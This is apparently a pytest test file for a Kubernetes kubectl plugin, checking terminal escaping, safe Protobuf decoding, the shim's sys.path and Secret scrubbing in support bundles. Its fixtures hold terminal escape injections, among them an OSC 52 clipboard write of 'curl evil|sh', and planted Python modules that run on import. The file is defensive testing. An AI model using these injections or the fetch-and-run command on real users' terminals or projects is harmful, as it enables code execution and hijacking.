"""The admin's terminal and machine (issue 38 item 5): what ``kubectl offtake`` writes never
carries a control character from data, a tenant-named Protobuf module is never imported
without ``--import``, the krew shim keeps the working directory off ``sys.path``, and the
support bundle scrubs every Secret value before anything is serialised. Assertions are on
bytes. The same paths on the real API server and broker: tests/e2e/test_kubectl_plugin.py."""

from __future__ import annotations

import base64
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from google.protobuf import descriptor_pb2

from offtake.contract import DecodeError
from offtake_operator.kubectl import actions, cli, dlq, logs, protobuf_raw, report, status_view
from offtake_operator.kubectl.errors import PluginError
from offtake_operator.kubectl.terminal import Safe, escape, one_line

REPO = Path(__file__).resolve().parents[2]
ESC, BEL, CSI_C1, OSC52 = "\x1b", "\x07", "\x9b", "\x1b]52;c;"
#: What a hostile producer writes: a window title, a clipboard write (OSC 52), a clear screen,
#: a C1 CSI, a carriage return that hides the line's start, DEL, a forged line.
HOSTILE = (
    "\x1b]0;pwned\x07" + OSC52 + base64.b64encode(b"curl evil|sh").decode() + "\x07"
    "\x1b[2J\x9b31m\rplain\x7f\nforged: line"
)


def assert_inert(text: str) -> None:
    for char in range(0x20):
        if chr(char) != "\n":
            assert chr(char) not in text, f"control 0x{char:02x} reached the terminal"
    for char in (0x7F, *range(0x80, 0xA0)):
        assert chr(char) not in text, f"control 0x{char:02x} reached the terminal"
    assert OSC52 not in text and ESC not in text and BEL not in text and CSI_C1 not in text


def written(text: str) -> str:
    """What a terminal receives when the plugin writes ``text``."""
    out = io.StringIO()
    Safe(out).write(text)
    return out.getvalue()


def test_escape_writes_every_control_but_newline_visibly() -> None:
    assert escape("a\x1b[2Jb\x07c\x9bd\x7fe\tf\rg\nh") == (
        "a\\x1b[2Jb\\x07c\\x9bd\\x7fe\\x09f\\x0dg\nh"
    )
    assert one_line("a\nb\x1b") == "a\\x0ab\\x1b"
    assert escape("plain ä ✓ text") == "plain ä ✓ text", "printable Unicode stays"
    assert_inert(written(HOSTILE))
    assert written(HOSTILE).count("\n") == 1, "Safe keeps the newline; one_line does not"


def test_the_watch_clears_the_screen_through_control_only() -> None:
    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    raw = Tty()
    safe = Safe(raw)
    safe.control("\x1b[H\x1b[2J")
    safe.write("\x1b[H")
    assert raw.getvalue() == "\x1b[H\x1b[2J\\x1b[H"
    assert safe.isatty()


def letter(**over: Any) -> dict[str, Any]:
    d: dict[str, Any] = {
        "topic": "orders-dlq",
        "partition": 0,
        "offset": 3,
        "timestamp": 1,
        "time": "2026-11-29T00:00:00.000Z",
        "origin": {"topic": "orders", "partition": 1, "offset": 9},
        "error": {"class": HOSTILE, "message": HOSTILE, "stage": HOSTILE},
        "attempts": 1,
        "key": HOSTILE,
        "value": {"undecodable": HOSTILE, "raw": HOSTILE},
        "headerError": HOSTILE,
    }
    return {**d, **over}


def test_dlq_text_carries_no_control_and_no_forged_line() -> None:
    text = written(dlq.render([letter()], "orders-dlq") + "\n")
    assert_inert(text)
    lines = text.splitlines()
    assert len(lines) == 7, "six lines per letter and the total: a key's newline forges none"
    assert lines[2].startswith("  key:   \\x1b]0;pwned\\x07\\x1b]52;c;")
    assert "\\x0aforged: line" in lines[2]
    assert not any(line.startswith("forged") for line in lines)


def test_dlq_json_output_carries_no_control() -> None:
    assert_inert(written(json.dumps([letter()], indent=2) + "\n"))


def test_logs_status_and_progress_carry_no_control() -> None:
    entries = logs.merge(
        {
            "w-0": [
                json.dumps(
                    {
                        "timestamp": "2026-11-29T00:00:00Z",
                        "level": "ERROR",
                        "logger": HOSTILE,
                        "message": HOSTILE,
                        HOSTILE: HOSTILE,
                        "exception": f"Traceback\n  {HOSTILE}",
                    }
                ),
                HOSTILE,  # a line that is not JSON (a crash's output)
            ]
        }
    )
    text = written(logs.render(entries) + "\n")
    assert_inert(text)
    assert not any(line.startswith("forged") for line in text.splitlines())

    report = {
        "name": "p", "namespace": "shop", "phase": HOSTILE, "reason": HOSTILE,
        "message": HOSTILE, "replicas": {"desired": 1, "running": 1, "ready": 1},
        "conditions": [{"type": "Ready", "status": "False", "reason": HOSTILE,
                        "message": HOSTILE}],
        "lag": {"records": None, "seconds": None, "from": "status"},
        "partitions": [{"topic": HOSTILE, "partition": 0, "owner": HOSTILE, "committed": 1,
                        "logEnd": 2, "lag": 1, "lagSeconds": 0.1, "trend": None}],
        "pods": [], "metrics": {"read": [], "unreadable": {"w-0": HOSTILE}},
        "dlq": {"topic": HOSTILE, "records": 1}, "redrive": {"message": HOSTILE},
        "events": [{"time": HOSTILE, "type": "Warning", "reason": HOSTILE, "message": HOSTILE}],
        "slo": None,
    }  # fmt: skip
    text = written(status_view.render(report, HOSTILE) + "\n")
    assert_inert(text)
    assert not any(line.startswith("forged") for line in text.splitlines())
    summary = status_view.summary_line(
        {"metadata": {"name": "p"}, "status": {"phase": HOSTILE, "message": HOSTILE}}
    )
    assert_inert(written(status_view.render_summaries([summary], "shop")))
    progress = actions._progress({"phase": HOSTILE, "message": HOSTILE}, None)
    assert_inert(written(progress + "\n"))
    assert "\n" not in progress


def test_an_error_message_through_main_carries_no_control(tmp_path: Path) -> None:
    # A kubeconfig that does not load: the plugin's error names what it read, through Safe.
    bad = tmp_path / f"kube{HOSTILE.splitlines()[0]}"
    bad.write_text("not: [a kubeconfig")
    out, err = io.StringIO(), io.StringIO()
    code = cli.main(["status", "--kubeconfig", str(bad)], out=out, err=err)
    assert code != 0 and err.getvalue()
    assert_inert(out.getvalue() + err.getvalue())


# -- Protobuf: raw fields, never the tenant's module ------------------------------------------


def proto_value(schema_id: int, indexes: bytes, body: bytes) -> bytes:
    return b"\x00" + schema_id.to_bytes(4, "big") + indexes + body


def test_protobuf_values_are_raw_fields_from_the_wire_format() -> None:
    # A real message, encoded by protobuf itself: FileDescriptorProto{name, package,
    # dependency x2, syntax} and a nested message (options: raw bytes, never guessed at).
    msg = descriptor_pb2.FileDescriptorProto(
        name="a.proto", package="shop", dependency=["x", "y"], syntax="proto3"
    )
    msg.options.java_package = "p"
    msg.options.optimize_for = descriptor_pb2.FileOptions.CODE_SIZE
    got = protobuf_raw.read(proto_value(42, b"\x00", msg.SerializeToString()))
    assert got["schemaId"] == 42 and got["messageIndexes"] == [0]
    assert got["fields"] == [
        {"field": 1, "wire": "len", "text": "a.proto"},
        {"field": 2, "wire": "len", "text": "shop"},
        {"field": 3, "wire": "len", "text": "x"},
        {"field": 3, "wire": "len", "text": "y"},
        {"field": 8, "wire": "len", "text": "\n\x01pH\x02"},
        {"field": 12, "wire": "len", "text": "proto3"},
    ]
    # varint, i64, i32 and non-UTF-8 bytes; message indexes [1, 2] (zigzag: 4, 2, 4).
    body = b"\x08\x96\x01" + b"\x11" + (7).to_bytes(8, "little") + b"\x1d\x01\x00\x00\x00"
    body += b"\x22\x02\xff\xfe"
    got = protobuf_raw.read(proto_value(7, b"\x04\x02\x04", body))
    assert got["messageIndexes"] == [1, 2]
    assert got["fields"] == [
        {"field": 1, "wire": "varint", "value": 150},
        {"field": 2, "wire": "i64", "value": 7},
        {"field": 3, "wire": "i32", "value": 1},
        {"field": 4, "wire": "len", "base64": "//4="},
    ]


@pytest.mark.parametrize(
    "raw",
    [
        b"\x01\x00\x00\x00\x01\x00",  # not the wire format
        proto_value(1, b"\x00", b"\x0a\x7f"),  # a length past the bytes
        proto_value(1, b"\x00", b"\x08" + b"\xff" * 11),  # a varint past 10 bytes
        proto_value(1, b"\x7e", b""),  # 63 indexes claimed, no bytes
        proto_value(1, b"\x00", b"\x00"),  # field number 0
        proto_value(1, b"\x00", b"\x0f"),  # wire type 7
    ],
)
def test_raw_protobuf_refuses_what_its_bytes_cannot_hold(raw: bytes) -> None:
    with pytest.raises(DecodeError):
        protobuf_raw.read(raw)


def test_the_dlq_decoder_never_imports_a_tenant_named_module(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    # The attack of the issue, made observable: a module the tenant names, importable here.
    (tmp_path / "tenant_payload.py").write_text(
        "import pathlib\npathlib.Path(__file__).with_name('RAN').write_text('ran')\n"
        "class Anything:\n    pass\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    manifest = {
        "apiVersion": "offtake.dev/v1alpha1",
        "kind": "ConsumerPipeline",
        "metadata": {"name": "p", "namespace": "shop"},
        "spec": {
            "kafka": {"bootstrapServers": "127.0.0.1:1"},
            "source": {
                "topics": ["t"],
                "format": "protobuf",
                "protobufMessage": "tenant_payload:Anything",
                "schemaRegistry": {"url": "http://127.0.0.1:1"},
            },
            "sink": {"log": {}},
        },
    }
    from offtake_operator.kubectl.kafka_view import pipeline_spec

    spec = pipeline_spec(manifest)
    decoder = dlq._decoder(spec, import_modules=False)
    assert isinstance(decoder, protobuf_raw.RawProtobufDecoder)
    assert decoder.value(proto_value(3, b"\x00", b"\x08\x01"), "t")["fields"] == [
        {"field": 1, "wire": "varint", "value": 1}
    ]
    assert not (tmp_path / "RAN").exists() and "tenant_payload" not in sys.modules
    sys.modules.pop("tenant_payload", None)
    # --import: the admin's choice, and then the module is imported knowingly.
    with pytest.raises(ValueError, match="not a generated protobuf message"):
        dlq._decoder(spec, import_modules=True)
    assert (tmp_path / "RAN").read_text() == "ran"
    args = cli.parser().parse_args(["dlq", "p", "--import"])
    assert args.import_modules is True
    assert cli.parser().parse_args(["dlq", "p"]).import_modules is False


# -- the krew shim: the working directory is not on sys.path ----------------------------------


def test_the_shim_does_not_import_modules_from_the_working_directory(tmp_path: Path) -> None:
    plant = "import pathlib; pathlib.Path(__file__).with_name('RAN-{0}').write_text('x')\n"
    for name in ("json", "offtake", "kubernetes", "yaml"):
        (tmp_path / f"{name}.py").write_text(plant.format(name))
    pkg = tmp_path / "offtake_operator"
    pkg.mkdir()
    (pkg / "__init__.py").write_text(plant.format("offtake_operator"))
    env = {**os.environ, "OFFTAKE_PYTHON": sys.executable}
    env.pop("PYTHONPATH", None)
    shim = str(REPO / "plugins" / "kubectl-offtake")
    done = subprocess.run(
        [shim, "status", "--help"], cwd=tmp_path, capture_output=True, text=True, env=env
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("usage: kubectl offtake status")
    assert sorted(p.name for p in tmp_path.glob("RAN-*")) == []
    # The attack is real: the same interpreter without -P imports the planted json.py.
    subprocess.run(
        [sys.executable, "-m", "offtake_operator.kubectl", "status", "--help"],
        cwd=tmp_path,
        capture_output=True,
        env=env,
    )
    assert (tmp_path / "RAN-json").exists()


# -- the support bundle: scrubbed before it is serialised ------------------------------------

SECRETS = {
    "kafka-creds": {
        "sasl.password": 'pä"ss\\wörd',
        "sasl.username": "bob",
        "pin": "7x",
        "sasl.mechanism": "SCRAM-SHA-512",
    }
}


def test_scrub_finds_values_as_values_before_any_serialiser_spells_them() -> None:
    scrub = report.Scrubber(SECRETS)
    password = SECRETS["kafka-creds"]["sasl.password"]
    obj = {
        "metadata": {"annotations": {"note": f"the password is {password}", "who": "bob"}},
        "spec": {"x": [password, "7x", "bobby", "pin 7x here"], password: "as a key"},
    }
    clean = scrub.tree(obj)
    for text in (
        yaml.safe_dump(clean),
        json.dumps(clean),
        json.dumps(clean, ensure_ascii=False),
    ):
        for value in SECRETS["kafka-creds"].values():
            if len(value) < report.WORD_ONLY_BELOW:
                continue  # a short value is asserted as a word below ("bobby" stays)
            for form in report._forms(value):
                assert form not in text, form
    assert clean["spec"]["x"] == [
        "<redacted: Secret kafka-creds key sasl.password>",
        "<redacted: Secret kafka-creds key pin>",
        "bobby",  # a short value inside a longer word is a word of its own
        "pin <redacted: Secret kafka-creds key pin> here",
    ]
    assert (
        clean["metadata"]["annotations"]["who"]
        == "<redacted: Secret kafka-creds key sasl.username>"
    )
    assert "<redacted: Secret kafka-creds key sasl.password>" in clean["spec"]


def test_scrub_of_text_the_bundle_copies_finds_every_spelling() -> None:
    scrub = report.Scrubber(SECRETS)
    password = SECRETS["kafka-creds"]["sasl.password"]
    log = "\n".join(
        [
            json.dumps({"timestamp": "t", "message": f"auth with {password} failed"}),
            json.dumps(
                {"timestamp": "t", "message": f"user bob pw {password}"}, ensure_ascii=False
            ),
            f"Traceback: password={password!r}",
            "raw " + json.dumps(password),
        ]
    )
    clean = scrub.log(log)
    metrics = scrub.text('offtake_x{pw="pä\\"ss\\\\wörd"} 1\n')
    for text in (clean, metrics):
        for value in SECRETS["kafka-creds"].values():
            if len(value) < report.WORD_ONLY_BELOW:
                continue
            for form in report._forms(value):
                assert form not in text, (form, text)
    # The repr'd one is a password= property, which offtake.redact masks first.
    assert clean.count("<redacted: Secret kafka-creds key sasl.password>") == 3
    assert "Traceback: password=***" in clean
    assert "<redacted: Secret kafka-creds key sasl.password>" in metrics
    assert json.loads(clean.splitlines()[1])["message"] == (
        "user <redacted: Secret kafka-creds key sasl.username> pw "
        "<redacted: Secret kafka-creds key sasl.password>"
    )


def test_the_bundle_holds_no_secret_value_in_any_spelling(monkeypatch: pytest.MonkeyPatch) -> None:
    password = SECRETS["kafka-creds"]["sasl.password"]

    class Cluster:
        namespace, server = "shop", "https://k"

        def pipeline(self, name: str) -> dict[str, Any]:
            return {
                "metadata": {"name": name, "annotations": {"n": f"pw {password} pin 7x"}},
                "spec": {"kafka": {"bootstrapServers": "k:9092",
                                   "secretRef": {"name": "kafka-creds"}}},
            }  # fmt: skip

        def secret_data(self, name: str, field: str) -> dict[str, str]:
            if name not in SECRETS:
                raise PluginError(name)
            return SECRETS[name]

        def children(self, name: str) -> dict[str, Any]:
            return {"ConfigMap": [{"metadata": {"name": "c"}, "data": {"k": password}}]}

        def pods(self, name: str) -> list[Any]:
            return []

        def events(self, name: str, limit: int) -> list[Any]:
            return [{"message": f"login as bob with {password}"}]

    def collect(cluster: Any, name: str) -> tuple[dict[str, Any], str]:
        return {"message": f"{password} 7x"}, f"Kafka refused {password}"

    monkeypatch.setattr(status_view, "collect", collect)
    data, listed = report.build(Cluster(), "p")  # type: ignore[arg-type]
    with zipfile.ZipFile(io.BytesIO(data)) as bundle:
        files = {n: bundle.read(n) for n in bundle.namelist()}
    assert {"pipeline.yaml", "events.yaml", "status.json"} <= set(listed)
    for name, raw in files.items():
        text = raw.decode()
        for value in SECRETS["kafka-creds"].values():
            for form in report._forms(value):
                if len(value) < report.WORD_ONLY_BELOW:
                    continue  # a short value is checked as a word below
                assert form not in text and form.encode() not in raw, (name, form)
    assert " 7x" not in files["p/pipeline.yaml"].decode()
    assert "bob" not in files["p/events.yaml"].decode()
    assert "<redacted: Secret kafka-creds key pin>" in files["p/status.json"].decode()
